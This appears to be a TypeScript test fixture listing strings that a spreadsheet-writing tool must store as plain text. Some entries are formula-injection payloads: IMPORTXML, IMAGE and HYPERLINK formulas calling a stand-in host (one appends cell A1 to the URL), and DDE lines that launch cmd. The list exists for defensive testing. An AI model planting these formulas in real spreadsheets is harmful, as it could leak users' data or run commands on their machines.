/**
 * Strings a person could type or paste that must be stored and shown as the text they are, on every write path.
 * One list for every path and both shells (test/gas/injection.test.ts, test/node/injection-xlsx.test.ts):
 * - formula injection (CSV/spreadsheet injection): what a spreadsheet would run as a formula if written as typed input;
 * - typed-input conversions: what Sheets' setValues would turn into a number, date, boolean or error cell
 *   (test/gas/fakes/values.ts TYPED_INPUT_FORMS lists how the fakes parse each form, and its source).
 */
export const INJECTION_PAYLOADS: readonly string[] = [
  '=IMPORTXML("http://x.example/","//a")',
  '=IMPORTDATA("http://x.example/a.csv")',
  '=IMAGE("http://x.example/a.png")',
  '=HYPERLINK("http://x.example/?"&A1,"クリック")',
  '=IMPORTRANGE("abc","A1:Z9")',
  '+IMPORTXML("http://x.example/","//a")',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=cmd|\' /C calc\'!A0',
  '=DDE("cmd";"/C calc";"!A0")',
  '\t=1+1',
  '\r=1+1',
  '=1+1',
  '＝IMPORTXML("http://x.example/","//a")',
  "'=quoted",
  // Typed-input conversions.
  '1e5',
  '#N/A',
  '#REF!',
  '#DIV/0!',
  '2024年3月31日',
  '3月31日',
  '10時30分',
  '１２３',
  '１，２３４',
  'TRUE',
  '+1',
  '-1',
  '@x',
  "'abc",
  '€5',
  ' 12 ',
  '2024/4/1',
  '30%',
];
